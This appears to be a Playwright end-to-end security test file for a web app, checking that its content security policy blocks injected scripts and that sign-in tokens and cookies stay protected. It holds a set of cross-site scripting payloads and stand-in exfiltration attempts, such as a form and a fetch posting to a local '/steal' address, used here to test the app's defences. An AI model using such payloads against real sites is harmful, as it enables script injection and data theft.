"""Security in a real browser: no foreign code runs, and the sign-in link leaves no trace."""

import pytest
from playwright.async_api import Browser, BrowserContext, Page, Request, Route, expect

from tests.e2e.page.actions import opened, ready
from tests.e2e.page_kit import Stage

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(60)]

INJECTED = """
<script>window.hacked = "a script"</script>
<script type="module">window.hacked = "a module"</script>
<script src="data:text/javascript,window.hacked='data'"></script>
<script src="http://127.0.0.1:9/evil.js"></script>
<img src="/nothing" onerror="window.hacked = 'a handler'">
<svg onload="window.hacked = 'a drawing'"></svg>
<style>#composer { display: none }</style>
<base href="http://127.0.0.1:9/">
<iframe src="javascript:parent.hacked = 'a frame'"></iframe>
<iframe srcdoc="<script>parent.hacked = 'another frame'</script>"></iframe>
<form id="stolen" action="http://127.0.0.1:9/steal"><input name="word" value="secret"></form>
"""

TRIES = {
    "a string that is run": "() => eval('window.hacked = 1')",
    "a function made of a string": "() => new Function('window.hacked = 1')()",
    "HTML that is set": "() => { document.body.innerHTML = '<img src=x onerror=window.hacked=1>' }",
    "a script that is written": """() => {
        const script = document.createElement("script");
        script.textContent = "window.hacked = 1";
        document.body.append(script);
    }""",
    "a request elsewhere": """() => fetch("http://127.0.0.1:9/steal").then(() => {
        window.hacked = 1;
    })""",
}


async def test_injected_scripts_do_not_run(browser: Browser, stage: Stage) -> None:
    async with await browser.new_context() as context:
        await context.request.get(await stage.link())
        asked: list[Request] = []
        context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - the library needs a function
        page = await context.new_page()

        async def inject(route: Route) -> None:
            answer = await route.fetch()
            text = (await answer.text()).replace("</main>", f"{INJECTED}</main>")
            assert "stolen" in text
            await route.fulfill(response=answer, body=text)

        await page.route(stage.url, inject)
        await page.goto(stage.url)
        await ready(page)
        await expect(page.get_by_label("Message", exact=True)).to_be_visible()
        await page.evaluate("() => document.querySelector('#stolen').submit()")
        assert await page.evaluate("window.hacked") is None
        assert await page.evaluate("document.baseURI") == stage.url
        assert page.url.startswith(stage.url)
        # A request stopped by the policy is reported as a failed request.
        assert [each.url for each in asked if ":9/" in each.url and each.failure != "csp"] == []


@pytest.mark.parametrize("what", TRIES)
async def test_the_policy_blocks_a_script_that_got_into_the_page(
    browser: Browser, stage: Stage, what: str
) -> None:
    """Even a script in the page could neither add more scripts nor send data away."""
    async with await browser.new_context() as context:
        await context.request.get(await stage.link())
        page = await opened(context, stage.url)
        # The debugger may bypass the policy, so a timer of the page runs the attempts.
        refused = await page.evaluate(
            """() => new Promise((resolve) => {
                document.addEventListener("securitypolicyviolation", (event) => {
                    resolve(event.violatedDirective);
                });
                setTimeout(resolve, 4000, "nothing");
                setTimeout(async () => await (TRY)().catch?.(() => {}));
            })""".replace("TRY", TRIES[what])
        )
        assert refused in {
            "script-src",
            "script-src-elem",
            "require-trusted-types-for",
            "connect-src",
        }
        assert await page.evaluate("window.hacked") is None


async def test_the_sign_in_link_leaves_no_trace(browser: Browser, stage: Stage) -> None:
    async with await browser.new_context() as context:
        requests: list[str] = []

        async def note(request: Request) -> None:
            if "/enter/" not in request.url:
                requests.append(f"{request.url} {await request.all_headers()}")

        context.on("request", note)
        page = await context.new_page()
        await page.goto("about:blank")
        link = await stage.link()
        token = link.rpartition("/")[2]
        await page.goto(link)
        await ready(page)
        assert page.url.startswith(f"{stage.url}#/")
        kept = await page.evaluate(
            "() => JSON.stringify([document.referrer, location.href, {...localStorage},"
            " {...sessionStorage}, document.cookie, document.documentElement.outerHTML])"
        )
        assert token not in kept
        assert requests
        assert not [each for each in requests if token in each]
        await page.go_back()
        assert page.url == "about:blank"


async def test_scripts_cannot_read_the_cookie(context: BrowserContext, page: Page) -> None:
    (cookie,) = await context.cookies()
    assert cookie["name"].startswith("holdfast_")
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert await page.evaluate("document.cookie") == ""


async def test_signing_out_in_one_tab_affects_all_tabs(context: BrowserContext, page: Page) -> None:
    other = await opened(context, page.url)
    await page.get_by_role("button", name="Sign out").click()
    for tab in (page, other):
        await expect(tab.locator("code")).to_have_text("holdfast link")
